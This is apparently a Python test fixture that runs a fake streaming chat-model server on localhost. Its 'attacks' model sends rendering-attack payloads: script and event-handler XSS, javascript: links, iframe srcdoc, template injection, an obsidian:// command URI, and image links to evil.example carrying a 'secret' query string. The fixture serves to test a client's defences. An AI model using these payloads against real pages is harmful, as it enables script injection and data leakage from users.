"""A model server whose models are what a page has to stand: one writes, one attacks, one never ends, one breaks off."""

from __future__ import annotations

import contextlib
import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

MODELS = ("writes", "attacks", "hangs", "breaks")
ATTACKS = """\
<img src=x onerror="document.title='attacked'"><script>document.title='attacked'</script>

![a picture](https://evil.example/pixel.png?d=secret) and ![x](javascript:document.title='attacked')

[click me](javascript:document.title='attacked'), [data](data:text/html,<script>1</script>), [plain](https://evil.example/a?b=c)

[Home](obsidian://advanced-uri?vault=demo&commandid=app%3Areload), <https://evil.example/angle>, [[Nowhere|a note]]

[![inner](https://evil.example/inner.png)](https://user:word@evil.example/outer)

<iframe srcdoc="<script>parent.document.title='attacked'</script>"></iframe> <a href="javascript:alert(1)">x</a>

| a | b |
|---|---|
| <b onmouseover="document.title='attacked'">cell</b> | `</code><script>document.title='attacked'</script>` |

```html
</code></pre><script>document.title = "attacked"</script>
```

> [!warning] <svg onload="document.title='attacked'">
> **bold <style>body{display:none}</style>** ‮reversed

{{constructor.constructor("document.title='attacked'")()}} ${document.title}
"""
_LONG = "The reading of the river goes on, a word at a time. "


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    stopping: threading.Event


class _Handler(BaseHTTPRequestHandler):
    server: _Server

    def do_GET(self) -> None:
        found = self.path == "/v1/models"
        models = [{"id": name, "object": "model", "owned_by": "test"} for name in MODELS]
        self.send_response(200 if found else 404)
        self.end_headers()
        self.wfile.write(json.dumps({"data": models} if found else {"error": "not here"}).encode())

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.end_headers()
        with contextlib.suppress(OSError):
            self._answer(body)

    def _answer(self, body: Any) -> None:
        if body["model"] == "attacks":
            self._write(re.findall(r"\S+|\s+", ATTACKS), ends=True)
        elif body["model"] == "writes":
            self._write(
                [
                    "## The code\n\n",
                    "It is ",
                    "**4471-B**",
                    ", says [[Cabin#Getting in]].\n\n",
                    "1. Go in.\n2. Shut it.",
                ],
                ends=True,
            )
        elif body["model"] == "breaks":
            self._write([_LONG], ends=False)
        else:
            self._write([_LONG], ends=False)
            self.server.stopping.wait()

    def _write(self, pieces: list[str], *, ends: bool) -> None:
        for piece in pieces:
            self._send({"delta": {"content": piece}, "finish_reason": None})
        if ends:
            self._send({"delta": {}, "finish_reason": "stop"})
            self.wfile.write(b"data: [DONE]\n\n")

    def _send(self, choice: dict[str, Any]) -> None:
        chunk = {"object": "chat.completion.chunk", "choices": [{"index": 0, **choice}]}
        self.wfile.write(b"data: " + json.dumps(chunk).encode() + b"\n\n")
        self.wfile.flush()

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002  # the library's name
        """Say nothing."""


@contextlib.contextmanager
def odd_upstream() -> Iterator[str]:
    """Answer until the block ends; gives the server's address."""
    server = _Server(("127.0.0.1", 0), _Handler)
    server.stopping = threading.Event()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.stopping.set()
        server.shutdown()
        thread.join()
        server.server_close()
